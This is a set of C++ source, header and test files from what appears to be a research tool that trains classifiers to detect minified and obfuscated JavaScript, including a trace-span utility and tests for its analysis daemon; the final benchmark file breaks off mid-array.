  metrics.static_analysis_ms.record(outcome.timing.static_analysis_ms);
  if (outcome.parse_failed()) {
    metrics.parse_errors.add(1);
    return;
  }
  metrics.features_ms.record(outcome.timing.features_ms);
  metrics.inference_ms.record(outcome.timing.inference_ms);
}

}  // namespace

std::string_view to_string(ScriptStatus status) {
  switch (status) {
    case ScriptStatus::kOk: return "ok";
    case ScriptStatus::kParseError: return "parse_error";
    case ScriptStatus::kIneligibleSize: return "ineligible_size";
    case ScriptStatus::kIneligibleAst: return "ineligible_ast";
  }
  return "unknown";
}

TransformationAnalyzer::TransformationAnalyzer(PipelineOptions options)
    : options_(std::move(options)),
      level1_(options_.detector),
      level2_(options_.detector) {}

void TransformationAnalyzer::train() {
  CorpusSpec spec;
  spec.regular_count = options_.training_regular_count;
  spec.seed = options_.seed;
  std::vector<std::string> corpus;
  {
    JST_SPAN("train.corpus");
    corpus = generate_regular_corpus(spec);
  }
  train_on(corpus);
}

void TransformationAnalyzer::train_on(
    const std::vector<std::string>& regular_sources) {
  if (regular_sources.empty()) {
    throw InvalidArgument("train_on: empty regular corpus");
  }
  Rng rng(options_.seed ^ 0x5eedf00dULL);

  // Build pools: regular + per-technique transformed. Base indices and
  // per-sample seeds are drawn serially so the corpus is identical for any
  // thread count; the transforms themselves fan out over the pool.
  struct TransformJob {
    std::size_t base = 0;
    transform::Technique technique;
    std::uint64_t seed = 0;
  };
  std::vector<TransformJob> jobs;
  jobs.reserve(options_.per_technique_count * transform::kTechniqueCount);
  for (transform::Technique technique : transform::all_techniques()) {
    for (std::size_t i = 0; i < options_.per_technique_count; ++i) {
      jobs.push_back({rng.index(regular_sources.size()), technique,
                      rng.next()});
    }
  }

  std::vector<Sample> samples(regular_sources.size() + jobs.size());
  {
    JST_SPAN("train.synthesize");
    for (std::size_t i = 0; i < regular_sources.size(); ++i) {
      samples[i] = make_regular_sample(regular_sources[i]);
    }
    support::run_parallel(0, jobs.size(), [&](std::size_t j) {
      const TransformJob& job = jobs[j];
      Rng job_rng(job.seed);
      samples[regular_sources.size() + j] = make_transformed_sample(
          regular_sources[job.base], job.technique, job_rng);
    });
  }

  FeatureTable table;
  {
    JST_SPAN("train.features");
    table = extract_features(std::move(samples), options_.detector.features);
  }
  const ml::LabelMatrix level1_matrix = level1_labels(table.samples);
  const ml::LabelMatrix level2_matrix = level2_labels(table.samples);

  {
    JST_SPAN("train.level1");
    Rng level1_rng = rng.split();
    level1_.fit(table.matrix(), level1_matrix, level1_rng);
  }

  // Level 2 trains on transformed samples only.
  JST_SPAN("train.level2");
  std::vector<std::vector<float>> transformed_rows;
  ml::LabelMatrix transformed_labels;
  for (std::size_t i = 0; i < table.samples.size(); ++i) {
    if (!table.samples[i].techniques.empty()) {
      transformed_rows.push_back(table.rows[i]);
      transformed_labels.push_back(level2_matrix[i]);
    }
  }
  Rng level2_rng = rng.split();
  level2_.fit(ml::Matrix{&transformed_rows}, transformed_labels, level2_rng);
  trained_ = true;
}

void TransformationAnalyzer::save(std::ostream& out) const {
  if (!trained_) throw ModelError("save: detector not trained");
  write_model_header(out, make_model_header("analyzer", options_.detector));
  level1_.save(out);
  level2_.save(out);
}

void TransformationAnalyzer::load(std::istream& in) {
  check_model_header(in, make_model_header("analyzer", options_.detector));
  level1_.load(in);
  level2_.load(in);
  trained_ = true;
}

ScriptReport TransformationAnalyzer::analyze(std::string_view source) const {
  return analyze_outcome(source).report;
}

ScriptOutcome TransformationAnalyzer::analyze_outcome(
    std::string_view source) const {
  if (!trained_) throw ModelError("analyze: detector not trained");
  ScriptOutcome outcome;
  JST_SPAN("script");
  const auto start = std::chrono::steady_clock::now();

  ScriptAnalysis analysis;
  {
    JST_SPAN("static_analysis");
    try {
      analysis = analyze_script(source, options_.detector.features.analysis);
    } catch (const ParseError& error) {
      outcome.status = ScriptStatus::kParseError;
      outcome.report.status = outcome.status;
      outcome.error_message = error.what();
      outcome.timing.static_analysis_ms = ms_since(start);
      outcome.timing.total_ms = outcome.timing.static_analysis_ms;
      record_outcome_metrics(outcome);
      return outcome;
    }
    // The §III-D1 eligibility filter is an AST walk, so it belongs to the
    // static-analysis stage; attributing it here keeps the per-stage times
    // a partition of total_ms (the BatchStats invariant in service.h).
    if (!size_eligible(source)) {
      outcome.status = ScriptStatus::kIneligibleSize;
    } else if (!ast_eligible(analysis)) {
      outcome.status = ScriptStatus::kIneligibleAst;
    } else {
      outcome.status = ScriptStatus::kOk;
    }
  }
  outcome.timing.static_analysis_ms = ms_since(start);
  outcome.report.status = outcome.status;

  const auto features_start = std::chrono::steady_clock::now();
  std::vector<float> row;
  {
    JST_SPAN("features");
    row = features::extract(analysis, options_.detector.features);
  }
  outcome.timing.features_ms = ms_since(features_start);

  const auto inference_start = std::chrono::steady_clock::now();
  {
    JST_SPAN("inference");
    outcome.report.level1 = level1_.predict(row);
    outcome.report.technique_confidence = level2_.predict_proba(row);
    if (outcome.report.level1.transformed()) {
      outcome.report.techniques = level2_.predict_techniques(row);
    }
  }
  outcome.timing.inference_ms = ms_since(inference_start);
  outcome.timing.total_ms = ms_since(start);
  record_outcome_metrics(outcome);
  return outcome;
}

}  // namespace jst::analysis
