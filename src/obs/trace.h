// Scoped trace spans in Chrome trace_event format.
//
// A TraceSink writes one complete event object per line (JSONL) — each
// line is `{"name":...,"cat":"jst","ph":"X","ts":…,"dur":…,"pid":1,
// "tid":…}` with timestamps in microseconds since process start. The
// file loads directly into Perfetto / chrome://tracing (both accept
// newline-separated complete events) and is trivially greppable.
//
// Tracing is gated by a *runtime* sink: `JST_SPAN("parse")` opens an
// RAII span that checks one relaxed atomic pointer at construction and,
// when no sink is attached, does nothing else — no clock reads, no
// allocation. Attach a sink around the region of interest:
//
//   std::ofstream out("trace.json");
//   jst::obs::TraceSink sink(out);
//   jst::obs::set_trace_sink(&sink);
//   ... run the batch ...
//   jst::obs::set_trace_sink(nullptr);
//
// Detach is a synchronization point: set_trace_sink waits for every span
// that captured the previous sink to finish writing before returning, so
// destroying the sink right after detaching is always safe — even when a
// pool worker's span is still closing after a parallel_for barrier
// released the caller. Corollary: never call set_trace_sink while the
// calling thread itself holds an open span. Spans nest naturally:
// Perfetto stacks same-thread events by interval containment.
//
// Compile-time switch: building with -DJST_TRACING=0 (CMake option
// JSTRACED_TRACING=OFF) turns JST_SPAN into a no-op statement; the
// default keeps spans compiled in, runtime-gated.
#pragma once

#include <chrono>
#include <cstdint>
#include <iosfwd>
#include <mutex>

#ifndef JST_TRACING
#define JST_TRACING 1
#endif

namespace jst::obs {

class TraceSink {
 public:
  // Writes events to `out`; the stream must outlive the sink. Writes are
  // serialized by an internal mutex (events are formatted off-lock).
  explicit TraceSink(std::ostream& out) : out_(&out) {}

  TraceSink(const TraceSink&) = delete;
  TraceSink& operator=(const TraceSink&) = delete;

  // Emits one `ph:"X"` (complete) event line. A non-empty `rid` lands as
  // `"args":{"rid":"..."}` so request-scoped spans join against the
  // flight recorder; empty/null keeps the pre-request-context shape.
  void write_complete_event(const char* name, double ts_us, double dur_us,
                            std::uint32_t tid, const char* rid = nullptr);

  std::uint64_t event_count() const { return events_; }

 private:
  std::mutex mutex_;
  std::ostream* out_;
  std::uint64_t events_ = 0;
};

// Attaches/detaches the process-wide sink; returns the previous one.
// Passing nullptr disables tracing (spans cost one branch again).
TraceSink* set_trace_sink(TraceSink* sink);
TraceSink* trace_sink();
inline bool trace_enabled() { return trace_sink() != nullptr; }

// Small dense id per OS thread (0 = first thread to trace), stable for
// the thread's lifetime; used as the trace `tid`.
std::uint32_t trace_thread_id();

// Microseconds since the process-wide trace epoch (first use).
double trace_now_us();

// Span-side half of the detach handshake: acquire registers the span as
// an in-flight writer (returns nullptr without registering when tracing
// is off); release must follow the span's final write.
TraceSink* span_acquire_sink();
void span_release_sink();

// Copies the calling thread's current request id (request_context.h) into
// `out` (17-byte buffer, NUL-terminated; empty string when no request is
// in scope). Out-of-line so this header stays standalone.
void span_capture_request_id(char* out);

// RAII span: records start at construction, emits a complete event at
// destruction. When no sink is attached at construction it is inert.
// The request id in scope at *construction* is what the event carries —
// a span belongs to the request that opened it.
class Span {
 public:
  explicit Span(const char* name)
      : name_(name), sink_(span_acquire_sink()) {
    if (sink_ != nullptr) {
      start_us_ = trace_now_us();
      span_capture_request_id(rid_);
    }
  }
  ~Span() {
    if (sink_ != nullptr) {
      sink_->write_complete_event(name_, start_us_,
                                  trace_now_us() - start_us_,
                                  trace_thread_id(), rid_);
      span_release_sink();
    }
  }

  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

 private:
  const char* name_;
  TraceSink* sink_;
  double start_us_ = 0.0;
  char rid_[17] = {0};
};

}  // namespace jst::obs

#define JST_OBS_CONCAT_INNER(a, b) a##b
#define JST_OBS_CONCAT(a, b) JST_OBS_CONCAT_INNER(a, b)
#if JST_TRACING
#define JST_SPAN(name) \
  ::jst::obs::Span JST_OBS_CONCAT(jst_obs_span_, __LINE__)(name)
#else
#define JST_SPAN(name) static_cast<void>(0)
#endif
