# Empty compiler generated dependencies file for detect_techniques.
# This may be replaced when dependencies are built.
