// Analysis-as-a-service (DESIGN.md §13): the AnalyzeRequest/AnalyzeResponse
// API, its versioned NDJSON wire schema, and the jstraced daemon.
//
//  * Wire round-trips: request and response lines survive
//    serialize → parse with every field intact; unknown fields, bad
//    types, and newer format versions are rejected with diagnostics.
//  * Shim equivalence: the deprecated analyze_one / analyze_batch
//    surfaces produce bit-identical outcomes (timing stripped) to the
//    request-path API over the seed corpus, serial and four-wide.
//  * Admission control: Server::should_shed is a pure function — the
//    hard cap and the queue-wait estimate shed deterministically.
//  * Socket integration: a live daemon serves concurrent bursts with
//    zero dropped connections, resolves content-hash references,
//    answers metrics/ping ops and HTTP-style scrapes, sheds overload
//    with explicit kOverloaded responses, and drains on shutdown
//    without abandoning admitted requests.
#include <gtest/gtest.h>
#include <unistd.h>

#include <atomic>
#include <memory>
#include <regex>
#include <string>
#include <thread>
#include <vector>

#include "analysis/pipeline.h"
#include "analysis/service.h"
#include "analysis/wild.h"
#include "analysis/wire.h"
#include "server/client.h"
#include "server/server.h"
#include "support/rng.h"
#include "transform/transform.h"

namespace jst {
namespace {

// Same corpus as test_frontend/test_compiled: 16 deterministic regular
// scripts plus one transformed variant per technique.
std::vector<std::string> seed_corpus() {
  analysis::CorpusSpec spec;
  spec.regular_count = 16;
  spec.seed = 424242;
  std::vector<std::string> corpus = analysis::generate_regular_corpus(spec);
  Rng rng(99);
  std::size_t base = 0;
  for (const transform::Technique technique : transform::all_techniques()) {
    corpus.push_back(
        analysis::make_transformed_sample(corpus[base % 16], technique, rng)
            .source);
    ++base;
  }
  return corpus;
}

const analysis::TransformationAnalyzer& shared_analyzer() {
  static analysis::TransformationAnalyzer* analyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 32;
    options.per_technique_count = 6;
    options.detector.forest.tree_count = 6;
    options.detector.features.ngram.hash_dim = 64;
    options.seed = 20260806;
    auto* built = new analysis::TransformationAnalyzer(options);
    built->train();
    return built;
  }();
  return *analyzer;
}

// Wall-clock timings differ run to run; everything else must not.
std::string strip_timing(const std::string& outcome_json) {
  static const std::regex kTiming("\"timing\":\\{[^}]*\\},");
  return std::regex_replace(outcome_json, kTiming, "");
}

// A unique-per-test socket path under /tmp (sun_path is length-limited,
// so the build tree is not a safe prefix).
std::string test_socket_path(const char* tag) {
  return "/tmp/jstraced_test_" + std::to_string(::getpid()) + "_" + tag +
         ".sock";
}

// --- wire schema: requests -------------------------------------------------

TEST(WireSchema, RequestRoundTripInlineSource) {
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source("var x = 1;", "req-7");
  request.detail = analysis::OutputDetail::kSummary;
  ResourceLimits limits;
  limits.deadline_ms = 250.0;
  limits.max_tokens = 5000;
  request.limits = limits;

  const std::string line = analysis::wire::analyze_request_json(request);
  std::string error;
  const auto parsed = analysis::wire::parse_analyze_request(line, &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->id, "req-7");
  EXPECT_TRUE(parsed->has_source);
  EXPECT_EQ(parsed->source, "var x = 1;");
  EXPECT_EQ(parsed->detail, analysis::OutputDetail::kSummary);
  ASSERT_TRUE(parsed->limits.has_value());
  EXPECT_DOUBLE_EQ(parsed->limits->deadline_ms, 250.0);
  EXPECT_EQ(parsed->limits->max_tokens, 5000u);
  EXPECT_EQ(parsed->limits->max_ast_nodes, 0u);
}

TEST(WireSchema, RequestRoundTripHashReference) {
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_hash("00112233aabbccdd", "ref-1");
  const std::string line = analysis::wire::analyze_request_json(request);
  std::string error;
  const auto parsed = analysis::wire::parse_analyze_request(line, &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_FALSE(parsed->has_source);
  EXPECT_EQ(parsed->source_hash, "00112233aabbccdd");
  EXPECT_EQ(parsed->detail, analysis::OutputDetail::kFull);
}

TEST(WireSchema, RequestRejectsUnknownFieldAndNewerVersion) {
  std::string error;
  EXPECT_FALSE(analysis::wire::parse_analyze_request(
                   R"({"v":1,"source":"x","bogus":true})", &error)
                   .has_value());
  EXPECT_NE(error.find("bogus"), std::string::npos) << error;
  EXPECT_FALSE(analysis::wire::parse_analyze_request(
                   R"({"v":999,"source":"x"})", &error)
                   .has_value());
  EXPECT_FALSE(
      analysis::wire::parse_analyze_request("not json at all", &error)
          .has_value());
}

TEST(WireSchema, RequestLimitsProductionThenOverride) {
  std::string error;
  const auto parsed = analysis::wire::parse_analyze_request(
      R"({"source":"x","limits":{"production":true,"max_tokens":7}})",
      &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  ASSERT_TRUE(parsed->limits.has_value());
  const ResourceLimits production = ResourceLimits::production();
  EXPECT_EQ(parsed->limits->max_tokens, 7u);  // override wins
  EXPECT_EQ(parsed->limits->max_source_bytes, production.max_source_bytes);
  EXPECT_DOUBLE_EQ(parsed->limits->deadline_ms, production.deadline_ms);
}

// --- wire schema: responses ------------------------------------------------

TEST(WireSchema, ResponseRoundTripOk) {
  const analysis::AnalyzerService service(shared_analyzer());
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source(seed_corpus()[0], "ok-1");
  analysis::AnalyzeResponse response = service.analyze(request);
  ASSERT_TRUE(response.ok());
  response.queue_ms = 1.5;
  response.queue_depth = 3;

  std::string error;
  const auto parsed = analysis::wire::parse_analyze_response(
      response.to_json(), &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->version, analysis::wire::kWireFormatVersion);
  EXPECT_TRUE(parsed->ok());
  EXPECT_EQ(parsed->id, "ok-1");
  EXPECT_EQ(parsed->source_hash, analysis::content_hash(seed_corpus()[0]));
  EXPECT_DOUBLE_EQ(parsed->queue_ms, 1.5);
  EXPECT_EQ(parsed->queue_depth, 3u);
  EXPECT_EQ(parsed->outcome_status, to_string(response.outcome.status));
  ASSERT_TRUE(parsed->outcome.is_object());
  // The embedded outcome is the same bytes ScriptOutcome::to_json emits.
  const support::JsonValue* status = parsed->outcome.find("status");
  ASSERT_NE(status, nullptr);
  EXPECT_EQ(status->as_string(), to_string(response.outcome.status));
}

TEST(WireSchema, ResponseDetailLevels) {
  const analysis::AnalyzerService service(shared_analyzer());
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source(seed_corpus()[0]);

  request.detail = analysis::OutputDetail::kStatus;
  analysis::AnalyzeResponse status_response = service.analyze(request);
  const std::string status_line = status_response.to_json();
  EXPECT_EQ(status_line.find("\"outcome\":"), std::string::npos);
  EXPECT_NE(status_line.find("\"outcome_status\":"), std::string::npos);

  request.detail = analysis::OutputDetail::kSummary;
  const std::string summary_line = service.analyze(request).to_json();
  EXPECT_NE(summary_line.find("\"outcome\":"), std::string::npos);
  EXPECT_EQ(summary_line.find("\"report\":"), std::string::npos);

  request.detail = analysis::OutputDetail::kFull;
  const std::string full_line = service.analyze(request).to_json();
  EXPECT_NE(full_line.find("\"report\":"), std::string::npos);
}

TEST(WireSchema, ResponseErrorRoundTrip) {
  analysis::AnalyzeResponse response;
  response.status = analysis::ResponseStatus::kOverloaded;
  response.id = "shed-1";
  response.error = "overloaded: 9 in flight";
  std::string error;
  const auto parsed = analysis::wire::parse_analyze_response(
      response.to_json(), &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->status, analysis::ResponseStatus::kOverloaded);
  EXPECT_EQ(parsed->error, "overloaded: 9 in flight");
  EXPECT_TRUE(parsed->outcome.is_null());
}

// Satellite: the legacy to_json surfaces route through the wire schema —
// same bytes, one serializer.
TEST(WireSchema, LegacyToJsonRoutesThroughWire) {
  const analysis::AnalyzerService service(shared_analyzer());
  const std::vector<std::string> corpus = seed_corpus();
  const analysis::BatchResult batch = service.analyze_batch(corpus);
  for (const analysis::ScriptOutcome& outcome : batch.outcomes) {
    EXPECT_EQ(outcome.to_json(),
              analysis::wire::script_outcome_json(outcome));
  }
  EXPECT_EQ(batch.stats.to_json(),
            analysis::wire::batch_stats_json(batch.stats));
}

// --- content hashing -------------------------------------------------------

TEST(ContentHash, StableFormat) {
  const std::string hash = analysis::content_hash("var x = 1;");
  EXPECT_EQ(hash.size(), 16u);
  EXPECT_EQ(hash.find_first_not_of("0123456789abcdef"), std::string::npos);
  EXPECT_EQ(hash, analysis::content_hash("var x = 1;"));
  EXPECT_NE(hash, analysis::content_hash("var x = 2;"));
}

// --- deprecated-shim equivalence ------------------------------------------

void expect_shim_equivalence(std::size_t threads) {
  const analysis::AnalyzerService service(shared_analyzer());
  const std::vector<std::string> corpus = seed_corpus();

  analysis::BatchOptions options;
  options.threads = threads;
  const analysis::BatchResult legacy = service.analyze_batch(corpus, options);

  std::vector<analysis::AnalyzeRequest> requests;
  requests.reserve(corpus.size());
  for (const std::string& source : corpus) {
    requests.push_back(analysis::AnalyzeRequest::for_source(source));
  }
  const analysis::BatchResponse batch =
      service.analyze_batch(requests, options);

  ASSERT_EQ(legacy.outcomes.size(), batch.responses.size());
  for (std::size_t i = 0; i < legacy.outcomes.size(); ++i) {
    ASSERT_TRUE(batch.responses[i].ok());
    EXPECT_EQ(strip_timing(legacy.outcomes[i].to_json()),
              strip_timing(batch.responses[i].outcome.to_json()))
        << "script " << i << " threads=" << threads;
  }
  EXPECT_EQ(legacy.stats.total, batch.stats.total);
  EXPECT_EQ(legacy.stats.ok, batch.stats.ok);
  EXPECT_EQ(legacy.stats.parse_errors, batch.stats.parse_errors);
  EXPECT_EQ(legacy.stats.threads, batch.stats.threads);

  // Single-script shim against the request path.
  const analysis::ScriptOutcome one = service.analyze_one(corpus[0]);
  const analysis::AnalyzeResponse single =
      service.analyze(analysis::AnalyzeRequest::for_source(corpus[0]));
  EXPECT_EQ(strip_timing(one.to_json()),
            strip_timing(single.outcome.to_json()));
}

TEST(ShimEquivalence, Serial) { expect_shim_equivalence(1); }

TEST(ShimEquivalence, FourThreads) { expect_shim_equivalence(4); }

// --- admission control (pure function) ------------------------------------

TEST(AdmissionControl, HardCapSheds) {
  EXPECT_TRUE(server::Server::should_shed(4, 2, 0.0, 0.0, 4));
  EXPECT_TRUE(server::Server::should_shed(9, 2, 1.0, 1e9, 4));
  EXPECT_FALSE(server::Server::should_shed(3, 2, 0.0, 0.0, 4));
}

TEST(AdmissionControl, DeadlineEstimateSheds) {
  // 8 queued × 100 ms p95 / 2 workers = 400 ms estimated wait.
  EXPECT_TRUE(server::Server::should_shed(8, 2, 100.0, 399.0, 0));
  EXPECT_FALSE(server::Server::should_shed(8, 2, 100.0, 401.0, 0));
  // More workers absorb the same queue.
  EXPECT_FALSE(server::Server::should_shed(8, 8, 100.0, 399.0, 0));
}

TEST(AdmissionControl, NoDeadlineNeverShedsWithoutCap) {
  EXPECT_FALSE(server::Server::should_shed(100000, 1, 5000.0, 0.0, 0));
  EXPECT_FALSE(server::Server::should_shed(0, 1, 5000.0, 1.0, 0));
}

// --- socket integration ----------------------------------------------------

class ServerFixture : public ::testing::Test {
 protected:
  void StartServer(const char* tag, server::ServerConfig config) {
    config.socket_path = test_socket_path(tag);
    service_ = std::make_unique<analysis::AnalyzerService>(shared_analyzer());
    daemon_ = std::make_unique<server::Server>(*service_, std::move(config));
    daemon_->start();
  }

  std::unique_ptr<analysis::AnalyzerService> service_;
  std::unique_ptr<server::Server> daemon_;
};

TEST_F(ServerFixture, BurstZeroDroppedConnections) {
  server::ServerConfig config;
  config.workers = 2;
  StartServer("burst", config);

  server::LoadOptions load;
  load.connections = 8;
  load.requests_per_connection = 8;
  load.detail = analysis::OutputDetail::kStatus;
  load.sources = seed_corpus();
  const server::LoadReport report =
      server::run_load(daemon_->socket_path(), load);

  EXPECT_EQ(report.transport_errors, 0u);
  EXPECT_EQ(report.sent, 64u);
  EXPECT_EQ(report.ok, 64u);
  EXPECT_EQ(report.shed, 0u);
  const server::ServerStats stats = daemon_->stats();
  EXPECT_EQ(stats.requests_served, 64u);
  EXPECT_EQ(stats.requests_shed, 0u);
}

TEST_F(ServerFixture, HashReferenceResolvesAfterInlineSubmission) {
  StartServer("hash", server::ServerConfig{});
  server::Client client(daemon_->socket_path());
  const std::string source = seed_corpus()[0];

  // Unknown hash first: explicit not_found, connection stays usable.
  const auto miss = client.call(
      analysis::AnalyzeRequest::for_hash(analysis::content_hash(source)));
  EXPECT_EQ(miss.status, analysis::ResponseStatus::kNotFound);

  const auto inline_response =
      client.call(analysis::AnalyzeRequest::for_source(source, "a"));
  ASSERT_TRUE(inline_response.ok());
  EXPECT_EQ(inline_response.source_hash, analysis::content_hash(source));

  const auto by_hash = client.call(
      analysis::AnalyzeRequest::for_hash(inline_response.source_hash, "b"));
  ASSERT_TRUE(by_hash.ok());
  EXPECT_EQ(by_hash.outcome_status, inline_response.outcome_status);
  EXPECT_EQ(by_hash.source_hash, inline_response.source_hash);
}

TEST_F(ServerFixture, PingMetricsAndHttpScrape) {
  StartServer("ops", server::ServerConfig{});
  server::Client client(daemon_->socket_path());
  EXPECT_TRUE(client.ping());

  // A served request so the counters are non-trivial.
  ASSERT_TRUE(
      client.call(analysis::AnalyzeRequest::for_source(seed_corpus()[0]))
          .ok());
  const std::string metrics = client.metrics_json();
  EXPECT_NE(metrics.find("jst_server_requests_total"), std::string::npos);
  EXPECT_NE(metrics.find("jst_server_service_ms"), std::string::npos);

  // HTTP-style scrape on a fresh connection (the exchange closes it).
  server::Client scraper(daemon_->socket_path());
  const std::string head = scraper.call_raw("GET /metrics HTTP/1.0");
  EXPECT_NE(head.find("HTTP/1.0 200 OK"), std::string::npos);
}

TEST_F(ServerFixture, MalformedLineAnswersInvalidRequest) {
  StartServer("bad", server::ServerConfig{});
  server::Client client(daemon_->socket_path());
  std::string error;
  const auto parsed = analysis::wire::parse_analyze_response(
      client.call_raw("this is not json"), &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->status, analysis::ResponseStatus::kInvalidRequest);
  // The connection survives the bad line.
  EXPECT_TRUE(client.ping());
}

// Deterministic overload: one worker with a 150 ms service floor and a
// hard cap of 2. Six requests fired from pre-connected clients: exactly
// two are admitted (the cap), four are answered kOverloaded immediately —
// the shed responses arrive long before the 150 ms floor can retire the
// admitted pair, so the split cannot race.
TEST_F(ServerFixture, OverloadShedsDeterministically) {
  server::ServerConfig config;
  config.workers = 1;
  config.max_queue_depth = 2;
  config.min_service_ms = 150.0;
  StartServer("overload", config);

  constexpr std::size_t kClients = 6;
  std::vector<std::unique_ptr<server::Client>> clients;
  for (std::size_t i = 0; i < kClients; ++i) {
    clients.push_back(
        std::make_unique<server::Client>(daemon_->socket_path()));
  }

  std::atomic<std::size_t> ok{0};
  std::atomic<std::size_t> overloaded{0};
  std::vector<std::thread> threads;
  const std::string source = seed_corpus()[0];
  for (std::size_t i = 0; i < kClients; ++i) {
    threads.emplace_back([&, i] {
      const auto response = clients[i]->call(
          analysis::AnalyzeRequest::for_source(source, std::to_string(i)));
      if (response.ok()) ++ok;
      if (response.status == analysis::ResponseStatus::kOverloaded) {
        ++overloaded;
      }
    });
  }
  for (std::thread& thread : threads) thread.join();

  EXPECT_EQ(ok.load(), 2u);
  EXPECT_EQ(overloaded.load(), 4u);
  const server::ServerStats stats = daemon_->stats();
  EXPECT_EQ(stats.requests_admitted, 2u);
  EXPECT_EQ(stats.requests_shed, 4u);
}

// Requests whose queue wait consumed the whole deadline are shed at
// pickup instead of analyzed late: with one worker, a 200 ms floor, and
// 100 ms deadlines, the first request (admitted into an idle server)
// completes and every queued follower is answered kOverloaded.
TEST_F(ServerFixture, DeadlineElapsedInQueueShedsAtPickup) {
  server::ServerConfig config;
  config.workers = 1;
  config.min_service_ms = 200.0;
  StartServer("latedl", config);

  constexpr std::size_t kClients = 3;
  std::vector<std::unique_ptr<server::Client>> clients;
  for (std::size_t i = 0; i < kClients; ++i) {
    clients.push_back(
        std::make_unique<server::Client>(daemon_->socket_path()));
  }
  std::atomic<std::size_t> ok{0};
  std::atomic<std::size_t> overloaded{0};
  std::vector<std::thread> threads;
  const std::string source = seed_corpus()[0];
  for (std::size_t i = 0; i < kClients; ++i) {
    threads.emplace_back([&, i] {
      analysis::AnalyzeRequest request =
          analysis::AnalyzeRequest::for_source(source, std::to_string(i));
      ResourceLimits limits;
      limits.deadline_ms = 100.0;
      request.limits = limits;
      const auto response = clients[i]->call(request);
      if (response.ok()) ++ok;
      if (response.status == analysis::ResponseStatus::kOverloaded) {
        ++overloaded;
      }
    });
  }
  for (std::thread& thread : threads) thread.join();

  // Exactly one request rode the idle lane; the rest waited ≥ 200 ms
  // against a 100 ms deadline and were shed (at admission by the wait
  // estimate once a p95 exists, or at pickup) — never analyzed late.
  EXPECT_EQ(ok.load(), 1u);
  EXPECT_EQ(overloaded.load(), kClients - 1);
}

TEST_F(ServerFixture, DrainAnswersAdmittedRequests) {
  server::ServerConfig config;
  config.workers = 1;
  config.min_service_ms = 150.0;
  StartServer("drain", config);

  server::Client client(daemon_->socket_path());
  std::atomic<bool> answered{false};
  std::thread caller([&] {
    const auto response =
        client.call(analysis::AnalyzeRequest::for_source(seed_corpus()[0]));
    EXPECT_TRUE(response.ok());
    answered = true;
  });
  // Give the request time to be admitted, then drain mid-service.
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  daemon_->shutdown();
  caller.join();
  EXPECT_TRUE(answered.load());

  // The socket file is gone and new connections are refused.
  EXPECT_THROW(server::Client{daemon_->socket_path()}, std::runtime_error);
}

}  // namespace
}  // namespace jst
