file(REMOVE_RECURSE
  "../lib/libjst_bench_common.a"
)
