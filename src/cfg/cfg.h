// Control-flow augmentation of the AST.
//
// Following the paper's JSTAP adjustment (§III-A): "we restrict flows of
// control to nodes having an impact on program execution paths, meaning
// statement nodes, CatchClause, and ConditionalExpression."
//
// The graph is intra-procedural (one sub-graph per function plus the
// top-level program), with edges for sequencing, branching (if/switch/
// conditional expressions), loop back-edges, break/continue (including
// labeled forms), and exception paths into CatchClause.
#pragma once

#include <cstdint>
#include <unordered_map>
#include <vector>

#include "ast/ast.h"

namespace jst {

struct ControlFlow {
  // Deduplicated directed edges between node ids (Ast::finalize() order).
  std::vector<std::pair<std::uint32_t, std::uint32_t>> edges;

  std::size_t edge_count() const { return edges.size(); }

  // Out-degree per source node id.
  std::unordered_map<std::uint32_t, std::size_t> out_degrees() const;

  // Number of nodes with out-degree >= 2 (branch points). Relies on
  // `edges` being sorted by (from, to), which build_control_flow
  // guarantees.
  std::size_t branch_node_count() const;

  // Number of back edges (edge to an id <= own id, i.e., loops; pre-order
  // ids make ancestors smaller).
  std::size_t back_edge_count() const;
};

// Builds the control-flow edges for a finalized AST. The AST must have had
// Ast::finalize() called (ids and parents assigned). A non-null `budget`
// is polled for the wall-clock deadline while edges are emitted; a passed
// deadline throws BudgetExceeded.
ControlFlow build_control_flow(const Ast& ast, Budget* budget = nullptr);

}  // namespace jst
