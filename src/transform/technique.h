// The ten monitored transformation techniques (§II-C).
#pragma once

#include <array>
#include <optional>
#include <string_view>

namespace jst::transform {

enum class Technique : std::uint8_t {
  kIdentifierObfuscation = 0,
  kStringObfuscation,
  kGlobalArray,
  kNoAlphanumeric,
  kDeadCodeInjection,
  kControlFlowFlattening,
  kSelfDefending,
  kDebugProtection,
  kMinificationSimple,
  kMinificationAdvanced,
};

constexpr std::size_t kTechniqueCount = 10;

constexpr std::array<Technique, kTechniqueCount> all_techniques() {
  return {Technique::kIdentifierObfuscation, Technique::kStringObfuscation,
          Technique::kGlobalArray,          Technique::kNoAlphanumeric,
          Technique::kDeadCodeInjection,    Technique::kControlFlowFlattening,
          Technique::kSelfDefending,        Technique::kDebugProtection,
          Technique::kMinificationSimple,   Technique::kMinificationAdvanced};
}

std::string_view technique_name(Technique technique);
std::optional<Technique> technique_from_name(std::string_view name);

// Obfuscation vs. minification family (level-1 class of a technique).
bool is_minification(Technique technique);
bool is_obfuscation(Technique technique);

}  // namespace jst::transform
