// §IV-B2 / Figure 3 — npm Top 10k packages: 8.7% of scripts transformed
// (8.46% minified / 0.25% obfuscated, ~8x less than Alexa); technique mix
// dominated by minification simple (58.34%) and advanced (36.57%).
#include <cstdio>

#include "bench_common.h"

int main() {
  using namespace jst;
  using namespace jst::bench;

  const auto spec = analysis::npm_spec();
  const auto measurement = measure_population(spec, scaled(260), 0x09b3);

  print_header("npm Top 10k packages", "section IV-B2, Figure 3");
  print_row("scripts transformed", 8.70, 100.0 * measurement.transformed_rate);
  print_row("scripts minified", 8.46, 100.0 * measurement.minified_rate);
  print_row("scripts obfuscated", 0.25, 100.0 * measurement.obfuscated_rate);

  std::printf("\nFigure 3: technique probability in transformed scripts\n");
  const double paper_values[transform::kTechniqueCount] = {
